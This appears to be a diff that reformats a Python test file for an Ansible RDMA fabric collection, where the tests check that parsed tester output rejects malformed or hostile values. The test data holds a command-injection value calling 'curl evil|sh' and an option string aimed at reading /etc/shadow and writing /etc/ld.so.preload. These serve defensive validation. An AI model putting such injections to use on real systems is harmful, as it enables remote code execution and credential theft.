@@ -14,8 +14,17 @@ from ansible_collections.gpufabric.rdma.plugins.module_utils._fabric.measure.rea
 from ansible_collections.gpufabric.rdma.plugins.module_utils._fabric.measure.readings.tester_log import parse_describe
 
 RAIL = {
-    "device": "mlx5_0", "port": "1", "netdev": "rail0", "gid": "3", "gid_type": "RoCE v2", "address": "10.0.0.1",
-    "mtu": "4096", "rate": "400 Gb/sec (4X NDR)", "numa": "-1", "cpus": "0-15,32", "local_cpus": "-",
+    "device": "mlx5_0",
+    "port": "1",
+    "netdev": "rail0",
+    "gid": "3",
+    "gid_type": "RoCE v2",
+    "address": "10.0.0.1",
+    "mtu": "4096",
+    "rate": "400 Gb/sec (4X NDR)",
+    "numa": "-1",
+    "cpus": "0-15,32",
+    "local_cpus": "-",
 }
 GID = "is invalid; expected a number from 0 to 64, since perftest refuses larger GID indexes"
 OPTIONS = "10.0.0.3 18500 write_bw --payload_file_path=/etc/shadow --out_json_file=/etc/ld.so.preload"
@@ -35,8 +44,11 @@ def test_what_a_tester_prints_is_valid() -> None:
         ("address", "10.0.0.1\n", "address='10.0.0.1' is invalid; expected an IPv4 address"),
         ("address", "-", "address='-' is invalid; expected an IPv4 address"),
         ("address", "host.test", "address='host.test' is invalid; expected an IPv4 address"),
-        ("device", "mlx5_0;curl evil|sh;", "device='mlx5_0;curl evil|sh;' is invalid; expected the name of an "
-         "RDMA device"),
+        (
+            "device",
+            "mlx5_0;curl evil|sh;",
+            "device='mlx5_0;curl evil|sh;' is invalid; expected the name of an RDMA device",
+        ),
         ("device", "-d", "device='-d' is invalid; expected the name of an RDMA device"),
         ("device", "a" * 65, f"device={'a' * 60!r} is invalid; expected the name of an RDMA device"),
         ("port", "1 -R", "port='1 -R' is invalid; expected a number from 1 to 255"),
@@ -70,8 +82,10 @@ def test_an_invalid_value_of_a_host_counts_as_not_reported() -> None:
 
 
 def test_a_hostile_description_gives_no_peer_any_words() -> None:
-    text = (f'=== gpufabric describe v1\nrail rail0 device=mlx5_0 port=1 gid=3 address="{OPTIONS}"\n'
-            f'host control="{OPTIONS}"\n=== gpufabric described 1\n')
+    text = (
+        f'=== gpufabric describe v1\nrail rail0 device=mlx5_0 port=1 gid=3 address="{OPTIONS}"\n'
+        f'host control="{OPTIONS}"\n=== gpufabric described 1\n'
+    )
     found = parse_describe(text)
     assert str(found.error("rail0")).startswith("not described: address=") and dict(found.host) == {}
 
